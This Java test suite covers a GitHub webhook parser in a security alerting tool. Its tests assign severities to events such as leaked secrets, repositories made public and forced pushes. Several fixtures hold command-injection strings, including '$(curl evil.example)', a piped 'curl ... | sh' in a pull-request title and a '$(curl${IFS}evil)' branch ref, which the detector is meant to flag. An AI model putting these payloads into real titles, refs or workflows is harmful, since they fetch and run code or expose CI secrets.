package dev.firebreak.alert.github;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.firebreak.alert.Alert;
import dev.firebreak.alert.Attack;
import dev.firebreak.alert.Disposition;
import dev.firebreak.alert.Observable;
import dev.firebreak.alert.Parsed;
import dev.firebreak.alert.RawMessage;
import dev.firebreak.alert.Severity;
import dev.firebreak.alert.UnusableAlert;
import dev.firebreak.connector.Secret;
import dev.firebreak.connector.Target;
import dev.firebreak.connector.TargetType;
import dev.firebreak.testkit.SampleFiles;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

class GitHubTest {
  private static final String REPOSITORY =
      "\"repository\":{\"full_name\":\"acme/web\",\"name\":\"web\",\"private\":true},"
          + "\"sender\":{\"login\":\"rquist\",\"type\":\"User\"}";

  private static Parsed parse(Optional<String> event, String body) throws UnusableAlert {
    Map<String, List<String>> headers =
        event.map(e -> Map.of("x-github-event", List.of(e))).orElse(Map.of());
    return new GitHubKind()
        .open(new GitHubSettings(Secret.of("0123456789abcdef"), Optional.empty(), "github:{login}"))
        .parse(new RawMessage(headers, Optional.empty(), body.getBytes(StandardCharsets.UTF_8)));
  }

  private static Alert alert(String event, String body) throws UnusableAlert {
    return ((Parsed.Alerts) parse(Optional.of(event), body)).alerts().get(0);
  }

  private static Alert own(String event, String file) throws UnusableAlert {
    return alert(event, SampleFiles.own(file));
  }

  private static String event(String action, String rest) {
    return "{\"action\":\"" + action + "\"," + rest + "," + REPOSITORY + "}";
  }

  private static Attack tactic(String id) {
    return new Attack(Optional.of(id), Optional.empty());
  }

  private static Attack technique(String id) {
    return new Attack(Optional.empty(), Optional.of(id));
  }

  @Test
  void aLeakedSecretIsCriticalAndNamedByItsAlertNeverByItself() throws UnusableAlert {
    Alert alert = own("secret_scanning_alert", "secret_scanning_leaked.json");

    assertThat(alert.uid()).isEqualTo("secret_scanning_alert:acme-exchange/signer#42");
    assertThat(alert.rule()).isEqualTo("secret_scanning_alert:acme_exchange_api_key");
    assertThat(alert.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(alert.disposition()).isEqualTo(Disposition.FIRING);
    assertThat(alert.occurredAt()).contains(Instant.parse("2026-01-14T09:41:12Z"));
    assertThat(alert.targets())
        .containsExactly(
            new Target(TargetType.CREDENTIAL, "github:acme-exchange/signer/secret-scanning/42"));
    assertThat(alert.attacks()).containsExactly(tactic("TA0006"), technique("T1552.001"));
    assertThat(alert.attributes())
        .containsEntry("repository", "acme-exchange/signer")
        .containsEntry("validity", "active")
        .containsEntry("login", "rquist");
    assertThat(alert.toString()).doesNotContain("never-show-me");
  }

  @Test
  void aSecretThatDoesNotWorkAnyMoreOrIsResolvedIsOver() throws UnusableAlert {
    String body = SampleFiles.own("secret_scanning_leaked.json");

    for (String over :
        List.of(
            body.replace("publicly_leaked\",\n  \"alert", "resolved\",\n  \"alert"),
            body.replace("publicly_leaked\",\n  \"alert", "revoked\",\n  \"alert"),
            body.replace("\"active\"", "\"inactive\""))) {
      Alert alert = alert("secret_scanning_alert", over);
      assertThat(alert.disposition()).isEqualTo(Disposition.RESOLVED);
      assertThat(alert.uid()).isEqualTo("secret_scanning_alert:acme-exchange/signer#42");
    }
  }

  @Test
  void scannersKeepTheirWordsAndAFixIsOver() throws UnusableAlert {
    Alert code = own("code_scanning_alert", "code_scanning_fixed.json");
    Alert dependency = own("dependabot_alert", "dependabot_created.json");

    assertThat(code.severity()).isEqualTo(Severity.HIGH);
    assertThat(code.disposition()).isEqualTo(Disposition.RESOLVED);
    assertThat(code.rule()).isEqualTo("code_scanning_alert:java/path-injection");
    assertThat(dependency.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(dependency.disposition()).isEqualTo(Disposition.FIRING);
    assertThat(dependency.uid()).isEqualTo("dependabot_alert:acme-exchange/web#19");
    assertThat(dependency.attributes())
        .containsEntry("package", "left-wallet")
        .containsEntry("cve_id", "CVE-2026-0001");
    assertThat(dependency.targets()).isEmpty();
  }

  @Test
  void aTokenRequestNamesTokenOwnerAndApprover() throws UnusableAlert {
    Alert alert = own("personal_access_token_request", "token_request_approved.json");

    assertThat(alert.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(alert.targets())
        .containsExactly(
            new Target(TargetType.CREDENTIAL, "github:personal-access-token/88001"),
            new Target(TargetType.IDENTITY, "github:rquist"),
            new Target(TargetType.IDENTITY, "github:lead-dev"));
  }

  @Test
  void aRepositoryMadePublicIsOneFindingByEitherEventAndOverWhenPrivate() throws UnusableAlert {
    String body = SampleFiles.own("repository_publicized.json");

    Alert made = alert("repository", body);

    assertThat(made.severity()).isEqualTo(Severity.HIGH);
    assertThat(made.targets()).containsExactly(new Target(TargetType.IDENTITY, "github:rquist"));
    assertThat(made.attacks()).contains(tactic("TA0010"));
    Alert twin = alert("public", body.replace("\"action\": \"publicized\",", ""));
    assertThat(twin.uid()).isEqualTo(made.uid());
    assertThat(twin.rule()).isEqualTo(made.rule());
    Alert back = alert("repository", body.replace("publicized", "privatized"));
    assertThat(back.uid()).isEqualTo(made.uid());
    assertThat(back.disposition()).isEqualTo(Disposition.RESOLVED);
  }

  @Test
  void aCommandInATitleIsAnAlertAndTheStrangerNoTarget() throws UnusableAlert {
    Alert alert = own("pull_request", "pull_request_title.json");

    assertThat(alert.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(alert.targets()).isEmpty();
    assertThat(alert.observables())
        .contains(
            new Observable("author", "stranger-77"),
            new Observable("text", "Typo `curl -s https://x.example/p | sh`"));
    Alert insider =
        alert(
            "pull_request",
            SampleFiles.own("pull_request_title.json").replace("FIRST_TIME_CONTRIBUTOR", "MEMBER"));
    assertThat(insider.severity()).isEqualTo(Severity.LOW);
    assertThat(insider.targets(TargetType.IDENTITY)).containsExactly("github:stranger-77");
  }

  @Test
  void ordinaryCodeInTextIsNoAlert() {
    Map<String, String> ordinary =
        Map.of(
            "Use `curl` to fetch it", "/comment",
            "```bash\\ncurl https://x.example | sh\\n```", "/comment",
            "cost is $(5) and `foo`", "/comment");
    for (String text : ordinary.keySet()) {
      assertThatThrownBy(
              () ->
                  alert(
                      "issue_comment",
                      event(
                          "created",
                          "\"issue\":{\"number\":1,\"title\":\"x $(curl evil)\"},"
                              + "\"comment\":{\"id\":2,\"body\":\""
                              + text
                              + "\"}")))
          .as(text)
          .isInstanceOf(UnusableAlert.class);
    }
    assertThatThrownBy(
            () ->
                alert(
                    "issues",
                    event(
                        "opened", "\"issue\":{\"number\":1,\"title\":\"Rename `foo` to `bar`\"}")))
        .isInstanceOf(UnusableAlert.class);
  }

  @Test
  void textThatBreaksOutOfAShellLineIsAnAlert() throws UnusableAlert {
    for (String text :
        List.of("a $(curl evil.example)", "a\\\"; curl evil.example #", "${{ secrets.KEY }}")) {
      Alert alert =
          alert(
              "issue_comment",
              event(
                  "created",
                  "\"issue\":{\"number\":1},\"comment\":{\"id\":2,\"body\":\"" + text + "\"}"));

      assertThat(alert.rule()).as(text).isEqualTo("issue_comment.injection");
    }
  }

  @Test
  void eventsAreRankedByWhatTheyChange() throws UnusableAlert {
    Map<String, Severity> events =
        Map.ofEntries(
            Map.entry("member|" + event("added", "\"member\":{\"login\":\"a\"}"), Severity.LOW),
            Map.entry(
                "member|"
                    + event(
                        "edited",
                        "\"member\":{\"login\":\"a\"},\"changes\":{\"permission\":{\"to\":\"admin\"}}"),
                Severity.MEDIUM),
            Map.entry(
                "organization|"
                    + event(
                        "member_added",
                        "\"membership\":{\"role\":\"admin\",\"user\":{\"login\":\"a\"}}"),
                Severity.MEDIUM),
            Map.entry(
                "organization|" + event("deleted", "\"membership\":{\"role\":\"admin\"}"),
                Severity.HIGH),
            Map.entry(
                "deploy_key|" + event("created", "\"key\":{\"id\":1,\"read_only\":false}"),
                Severity.MEDIUM),
            Map.entry(
                "branch_protection_rule|" + event("deleted", "\"rule\":{\"name\":\"main\"}"),
                Severity.MEDIUM),
            Map.entry(
                "repository_ruleset|"
                    + event(
                        "edited", "\"repository_ruleset\":{\"id\":1,\"enforcement\":\"disabled\"}"),
                Severity.MEDIUM),
            Map.entry("meta|" + event("deleted", "\"hook_id\":9,\"hook\":{}"), Severity.MEDIUM),
            Map.entry(
                "installation|" + event("created", "\"installation\":{\"id\":5}"), Severity.MEDIUM),
            Map.entry("repository|" + event("deleted", "\"x\":1"), Severity.MEDIUM),
            Map.entry(
                "secret_scanning_alert|"
                    + event("created", "\"alert\":{\"number\":1,\"secret_type\":\"t\"}"),
                Severity.HIGH),
            Map.entry(
                "exemption_request_secret_scanning|"
                    + event("created", "\"exemption_request\":{\"id\":3}"),
                Severity.LOW));
    for (Map.Entry<String, Severity> e : events.entrySet()) {
      String[] parts = e.getKey().split("\\|", 2);
      assertThat(alert(parts[0], parts[1]).severity()).as(e.getKey()).isEqualTo(e.getValue());
    }
  }

  @Test
  void onlyWhatWasSwitchedOffIsAnAlert() throws UnusableAlert {
    String body =
        "{\"changes\":{\"from\":{\"security_and_analysis\":{\"secret_scanning\":{\"status\":\""
            + "enabled\"},\"advanced_security\":{\"status\":\"enabled\"}}}},\"repository\":{"
            + "\"full_name\":\"acme/web\",\"security_and_analysis\":{\"secret_scanning\":{\"status\":"
            + "\"disabled\"},\"advanced_security\":{\"status\":\"enabled\"}}}}";

    Alert off = alert("security_and_analysis", body);

    assertThat(off.title()).isEqualTo("GitHub: secret scanning off in acme/web");
    assertThat(off.severity()).isEqualTo(Severity.MEDIUM);
    assertThatThrownBy(() -> alert("security_and_analysis", body.replace("disabled", "enabled")))
        .isInstanceOf(UnusableAlert.class);
  }

  @Test
  void aForksCodeWithSecretsIsMoreThanWithout() throws UnusableAlert {
    String run =
        "\"workflow_run\":{\"id\":3,\"event\":\"TRIGGER\",\"head_branch\":\"f\","
            + "\"head_repository\":{\"full_name\":\"stranger/web\"}}";

    assertThat(
            alert("workflow_run", event("completed", run.replace("TRIGGER", "pull_request")))
                .severity())
        .isEqualTo(Severity.LOW);
    Alert secrets =
        alert("workflow_run", event("completed", run.replace("TRIGGER", "pull_request_target")));
    assertThat(secrets.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(secrets.attributes()).containsEntry("fork", "stranger/web");
    assertThat(secrets.targets()).isEmpty();
  }

  @Test
  void pushesThatMeanMoreAreRead() throws UnusableAlert {
    String repository =
        "\"repository\":{\"full_name\":\"acme/web\",\"default_branch\":\"main\",\"created_at\":1},"
            + "\"pusher\":{\"name\":\"r\"}";
    Map<String, String> pushes =
        Map.of(
            "\"ref\":\"refs/heads/x\",\"commits\":[{\"added\":"
                + "[\".github/workflows/shai-hulud-workflow.yml\"]}],",
            "push.worm",
            "\"ref\":\"refs/heads/a$(curl${IFS}evil)\",\"commits\":[],",
            "push.injection",
            "\"ref\":\"refs/heads/main\",\"forced\":true,\"commits\":[],",
            "push.forced",
            "\"ref\":\"refs/heads/main\",\"deleted\":true,\"commits\":[],",
            "push.deleted",
            "\"ref\":\"refs/heads/main\",\"commits\":[{\"id\":\"c\",\"message\":\"a [skip ci]\"}],",
            "push.skipped-checks");
    for (Map.Entry<String, String> e : pushes.entrySet()) {
      assertThat(alert("push", "{" + e.getKey() + repository + "}").rule()).isEqualTo(e.getValue());
    }
    assertThatThrownBy(
            () ->
                alert(
                    "push",
                    "{\"ref\":\"refs/heads/x\",\"forced\":true,\"commits\":[]," + repository + "}"))
        .isInstanceOf(UnusableAlert.class);
  }

  @Test
  void aPingIsAHandshakeByHeaderOrByShape() throws UnusableAlert {
    String body =
        "{\"zen\":\"Keep it simple.\",\"hook_id\":1,\"hook\":{\"type\":\"Organization\"}}";

    assertThat(parse(Optional.of("ping"), body)).isInstanceOf(Parsed.Handshake.class);
    assertThat(parse(Optional.empty(), body)).isInstanceOf(Parsed.Handshake.class);
  }

  @Test
  void botsAndGitHubItselfAreNoTargets() throws UnusableAlert {
    for (String sender : List.of("dependabot[bot]", "github", "web-flow", "ghost")) {
      String body =
          event("deleted", "\"rule\":{\"name\":\"main\"}")
              .replace("\"rquist\"", "\"" + sender + "\"");

      assertThat(alert("branch_protection_rule", body).targets()).as(sender).isEmpty();
    }
  }

  @Test
  void whatIsNoAlertIsRefusedWithAdvice() {
    Map<String, String> events =
        Map.of(
            "star", event("created", "\"starred_at\":\"2026-01-01T00:00:00Z\""),
            "branch_protection_rule", event("created", "\"rule\":{\"name\":\"main\"}"),
            "secret_scanning_alert", event("assigned", "\"alert\":{\"secret_type\":\"t\"}"),
            "workflow_job", event("completed", "\"workflow_job\":{\"id\":1}"),
            "repository", event("renamed", "\"x\":1"),
            "no_such_event", event("created", "\"x\":1"));
    events.forEach(
        (name, body) ->
            assertThatThrownBy(() -> alert(name, body))
                .as(name)
                .isInstanceOf(UnusableAlert.class)
                .hasMessageContaining(name)
                .hasMessageContaining("webhook's list of events"));
    assertThatThrownBy(() -> parse(Optional.empty(), event("created", "\"label\":{}")))
        .isInstanceOf(UnusableAlert.class)
        .hasMessageContaining("X-GitHub-Event");
  }

  @Test
  void aHeaderThatDoesNotFitTheBodyIsRefusedNotMisread() {
    assertThatThrownBy(() -> own("secret_scanning_alert", "dependabot_created.json"))
        .isInstanceOfSatisfying(
            UnusableAlert.class, e -> assertThat(e.pointer()).isEqualTo("/alert/secret_type"));
  }

  @TestFactory
  Stream<DynamicTest> everyRecordedEventIsAnAlertOrRefusedWithAReason() {
    return Stream.of(
            SampleFiles.own(),
            SampleFiles.recorded("github_webhook"),
            SampleFiles.recorded("github_webhook_panther"))
        .flatMap(List::stream)
        .map(f -> DynamicTest.dynamicTest(f.getFileName().toString(), () -> readable(f)));
  }

  /** Rule and severity by a part of the file's name. */
  private static final Map<String, String> RECORDED =
      Map.ofEntries(
          Map.entry("crossfork", "workflow_run.fork LOW"),
          Map.entry("malicious_comment", "issue_comment.injection MEDIUM"),
          Map.entry("malicious_issue", "issues.injection MEDIUM"),
          Map.entry("malicious_pr", "pull_request.injection MEDIUM"),
          Map.entry("self_hosted", "workflow_job.self_hosted MEDIUM"),
          Map.entry("shai_hulud", "repository.worm HIGH"),
          Map.entry("skip_commits", "push.skipped-checks LOW"),
          Map.entry("member_added", "member.added LOW"),
          Map.entry("membership_removed", "membership.removed LOW"),
          Map.entry("security_advisory", "security_advisory MEDIUM"),
          Map.entry("secret_scanning_alert_reopened", "secret_scanning_alert:adafruit_io_key HIGH"),
          Map.entry("alert_created", "code_scanning_alert:java/sql-injection HIGH"));

  /** Without the header, as they were recorded. */
  private static void readable(Path file) throws UnusableAlert {
    boolean ordinary = file.getFileName().toString().contains("workflow_contains_checkout");
    if (ordinary) {
      assertThatThrownBy(() -> parse(Optional.empty(), SampleFiles.text(file)))
          .hasMessageContaining("workflow_job.completed");
      return;
    }

    Alert alert = ((Parsed.Alerts) parse(Optional.empty(), SampleFiles.text(file))).alerts().get(0);

    assertThat(alert.severity()).isNotEqualTo(Severity.UNKNOWN);
    assertThat(alert.title()).startsWith("GitHub: ");
    assertThat(alert.uid()).contains(":");
    String name = file.getFileName().toString();
    RECORDED.forEach(
        (part, expected) -> {
          if (name.contains(part)) {
            assertThat(alert.rule() + " " + alert.severity()).isEqualTo(expected);
          }
        });
    boolean over = name.contains("fixed") || name.contains("closed");
    assertThat(alert.disposition() == Disposition.RESOLVED).isEqualTo(over);
  }
}
